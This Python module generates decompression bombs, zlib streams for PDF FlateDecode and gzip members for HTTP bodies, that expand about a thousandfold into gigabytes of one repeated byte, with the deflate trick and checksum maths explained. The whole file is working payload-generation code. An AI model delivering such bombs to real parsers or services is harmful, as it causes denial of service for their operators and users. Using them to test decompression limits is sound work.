"""Decompression bombs, made in a moment: `size` bytes of one repeated byte, deflated as zlib (a PDF's
FlateDecode stream) or as gzip (an HTTP body), about a thousand times smaller than what they inflate to.

Deflating a gigabyte takes seconds; but a run of one byte deflates to the same bytes each time the
compressor starts afresh. So one chunk is deflated and flushed to a byte boundary with an empty
history (Z_FULL_FLUSH), its bytes are repeated for every chunk, an empty final block ends the
stream, and the checksum is of the whole (Adler-32 in closed form, CRC-32 chunk by chunk). What a
reader inflates is exactly what `zlib.compress(bytes([byte]) * size)` would give it."""

from __future__ import annotations

import struct
import zlib

CHUNK = 16 * 1024 * 1024


def _raw_deflate(byte: int, size: int, chunk: int) -> bytes:
    if size % chunk:
        raise ValueError(f"size {size} is not a multiple of the chunk {chunk}")
    c = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = bytes([byte]) * chunk
    first = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert first == again, "a full flush should make every chunk deflate to the same bytes"
    return first * (size // chunk) + c.flush()


def _adler32(byte: int, size: int) -> int:
    mod = 65521
    a = (1 + size * byte) % mod
    b = (size + byte * (size * (size + 1) // 2)) % mod
    return (b << 16) | a


def _crc32(byte: int, size: int, chunk: int) -> int:
    block = bytes([byte]) * chunk
    crc = 0
    for _ in range(size // chunk):
        crc = zlib.crc32(block, crc)
    return crc


def zlib_bomb(size: int, byte: int = 0, chunk: int = CHUNK) -> bytes:
    """A zlib stream (as in a PDF's FlateDecode) of `size` bytes of `byte`."""
    return b"\x78\xda" + _raw_deflate(byte, size, chunk) + struct.pack(">I", _adler32(byte, size))


def gzip_bomb(size: int, byte: int = 0, chunk: int = CHUNK) -> bytes:
    """A gzip member (as in `Content-Encoding: gzip`) of `size` bytes of `byte`."""
    header = b"\x1f\x8b\x08\x00" + b"\x00\x00\x00\x00" + b"\x02\xff"
    return (header + _raw_deflate(byte, size, chunk)
            + struct.pack("<II", _crc32(byte, size, chunk), size & 0xFFFFFFFF))
